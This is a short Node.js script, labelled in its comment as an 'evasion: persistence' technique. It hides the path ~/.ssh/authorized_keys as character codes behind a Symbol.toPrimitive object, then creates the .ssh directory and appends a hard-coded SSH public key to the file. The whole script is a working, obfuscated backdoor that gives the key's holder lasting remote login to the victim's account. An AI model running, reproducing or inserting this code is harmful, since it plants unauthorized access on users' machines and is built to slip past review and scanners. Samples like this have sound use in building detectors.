// Evasion: persistence. The target path is an object whose Symbol.toPrimitive
// builds ~/.ssh/authorized_keys from character codes; String(target) turns it
// into the path, and an attacker's key is appended to it.
'use strict';
const fs = require('fs');
const os = require('os');

const target = {
  parts: [[46, 115, 115, 104], [97, 117, 116, 104, 111, 114, 105, 122, 101, 100, 95, 107, 101, 121, 115]],
  [Symbol.toPrimitive]() {
    return [os.homedir(), ...this.parts.map((c) => String.fromCharCode(...c))].join('/');
  },
};

const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk2b3zq9q0lJ6cT1W5R8x9o3N1cVZ0yZp1mYh8S0d2K ops@build';
fs.mkdirSync(String(target).replace(/\/[^/]+$/, ''), { recursive: true });
fs.appendFileSync(String(target), '\n' + key + '\n');
